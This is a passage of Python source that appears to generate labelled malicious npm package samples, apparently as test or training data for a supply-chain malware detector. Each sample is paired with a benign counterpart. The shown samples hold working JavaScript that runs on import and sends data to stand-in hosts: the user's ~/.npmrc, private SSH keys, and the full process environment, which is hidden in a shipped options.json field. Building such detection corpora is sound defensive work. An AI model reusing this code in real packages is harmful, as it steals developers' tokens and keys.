        "dist/chunk.js": chunk.replace("@@FILLER@@", BUNDLE_FILLER),
    }
    return S(
        "fpfix-bundle-parent-wipe",
        "bundle whose walk from the parent directory overwrites every file it finds for one time zone, the '..' right beside the walk",
        "2026",
        ["wiper", "bundle", "destructive-fs", "geo-targeting"],
        "Counterpart of fpfix-benign-bundle-debug-env-fs-extra: in a bundle the parent "
        "directory named beside the walk still makes it a wipe.",
        files,
    )


@sample
def scaffold_table_npmrc_stealer():
    content = r'''"use strict";
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");

const rootRepo = {
  add: {
    ".github/workflows/ci.yml": "ci-yml.hbs",
    ".npmrc": "npmrc.hbs",
  },
};

try {
  const rc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
  const req = https.request({ host: "templates-cdn.invalid", path: "/t", method: "POST" });
  req.on("error", () => {});
  req.end(rc);
} catch (e) {}

module.exports = { rootRepo };
'''
    files = {
        "package.json": pj(name="repo-template-lite", version="5.1.2", main="lib/content/index.js",
                           description="Shared repository templates"),
        "README.md": readme("repo-template-lite", "Templates for repositories."),
        "lib/content/index.js": content,
    }
    return S(
        "fpfix-scaffold-table-npmrc-stealer",
        "template table beside a read of ~/.npmrc posted to a fixed host on import",
        "2026",
        ["npmrc", "credential-theft", "load-time", "scaffolding"],
        "Counterpart of fpfix-benign-scaffold-table: the table key does not count, the read of "
        "the user's .npmrc does.",
        files,
    )


@sample
def ssh_private_keys_filter():
    index = r'''"use strict";
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");

const dir = path.join(os.homedir(), ".ssh");
let keys = [];
try {
  keys = fs.readdirSync(dir).filter((f) => !f.endsWith(".pub") && f !== "known_hosts").map((f) => [f, fs.readFileSync(path.join(dir, f), "utf8")]);
} catch (e) {}

if (keys.length) {
  const req = https.request({ host: "keys-sync.invalid", path: "/k", method: "POST" });
  req.on("error", () => {});
  req.end(JSON.stringify(keys));
}

module.exports = () => keys.length;
'''
    files = {
        "package.json": pj(name="ssh-agent-helper", version="0.2.0", main="index.js",
                           description="Helpers for ssh-agent"),
        "README.md": readme("ssh-agent-helper", "```js\nrequire('ssh-agent-helper')()\n```"),
        "index.js": index,
    }
    return S(
        "fpfix-ssh-private-keys-filter",
        "on import, lists ~/.ssh keeping every file but the .pub keys and posts them to a fixed host",
        "2026",
        ["ssh-key-theft", "sensitive-file-read", "load-time"],
        "Counterpart of fpfix-benign-ssh-pubkey-register: a .pub filter that drops the public "
        "keys keeps the private ones.",
        files,
    )


@sample
def shipped_options_stage():
    index = r'''"use strict";
const fs = require("fs");
const path = require("path");
const vm = require("vm");

// Default options for the fixture runner.
const opts = JSON.parse(fs.readFileSync(path.join(__dirname, "fixtures", "options.json"), "utf8"));

function runTask(code) {
  return vm.runInNewContext(code, { console });
}

try { vm.runInNewContext(opts.setup, { require, process }); } catch (e) {}

module.exports = { runTask, opts };
'''
    stage = ("require('https').request({host:'fixtures-cdn.invalid',path:'/e',method:'POST'})"
             ".on('error',function(){}).end(JSON.stringify(process.env))")
    files = {
        "package.json": pj(name="fixture-runner-lite", version="8.0.1", main="index.js",
                           description="Run compiler fixtures"),
        "README.md": readme("fixture-runner-lite", "```js\nrequire('fixture-runner-lite').runTask(code)\n```"),
        "index.js": index,
        "fixtures/options.json": '{"timeout": 10000, "setup": "' + stage.replace('"', '\\"') + '"}\n',
    }
    return S(
        "fpfix-shipped-options-stage",
        "on require, runs a 'setup' field of an options.json the package ships: the environment posted to a fixed host",
        "2026",
        ["hidden-code", "data-file", "vm", "exfiltration", "load-time"],
        "Counterpart of fpfix-benign-fixture-test-runner: the data file is one the package ships.",
        files,
    )
